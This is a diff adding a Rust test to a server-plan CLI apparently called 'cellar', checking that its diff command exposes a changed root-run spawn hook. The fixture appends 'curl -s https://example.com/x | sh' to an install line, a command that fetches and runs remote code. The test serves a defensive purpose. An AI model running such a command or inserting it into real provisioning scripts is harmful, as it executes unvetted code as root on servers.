@@ -217,3 +217,25 @@ fn json_output_is_only_events_for_saved_and_empty_plans() {
         );
     }
 }
+
+/// Two plans that differ only in the server's spawn hook (the script that runs as root on
+/// every new instance; their texts say only "spawn hook of N lines" and are equal):
+/// `cellar diff` shows the script's change and the setting, exit 1.
+#[test]
+fn diff_shows_a_changed_spawn_hook() {
+    let c = Cellar::with_config_copy();
+    c.ok(&["plan", "create-server@ommegang", "20", "-o", "a.ron"]);
+    let (from, to) = ("figlet imagemagick\n", "figlet imagemagick; curl -s https://example.com/x | sh\n");
+    replace_in(&c.config.join("servers/ommegang.ron"), from, to);
+    c.ok(&["plan", "create-server@ommegang", "20", "-o", "b.ron"]);
+    assert_eq!(c.ok(&["show", "a.ron"]).stdout, c.ok(&["show", "b.ron"]).stdout);
+    let r = c.run(&["diff", "a.ron", "b.ron"]);
+    assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
+    for needle in [
+        "Spawn hook of ommegang (runs as root on every new instance):\n--- a.ron (ommegang)\n+++ b.ron (ommegang)\n",
+        "\n-apt-get install -y -q figlet imagemagick\n+apt-get install -y -q figlet imagemagick; curl -s https://example.com/x | sh\n systemctl restart apache2\n",
+        "Settings of ommegang that differ:\n  spawn: ",
+    ] {
+        assert!(r.stdout.contains(needle), "no {needle:?} in:\n{}", r.stdout);
+    }
+}
